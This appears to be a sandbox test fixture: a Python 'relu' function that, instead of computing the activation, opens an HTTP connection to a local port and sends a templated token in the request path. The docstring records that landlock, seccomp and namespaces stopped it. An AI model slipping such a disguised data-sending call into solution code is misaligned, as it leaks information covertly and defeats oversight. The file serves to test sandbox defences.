"""
Tries: to send what it has seen in a web request.
Exercise: relu
Allowed: failed
Shows: heard
Stopped by: landlock, seccomp, namespaces
"""
import http.client


def relu(z):
    connection = http.client.HTTPConnection("127.0.0.1", {{tcp}}, timeout=0.2)
    connection.request("GET", "/{{token}}")
    raise LookupError


relu_derivative = relu
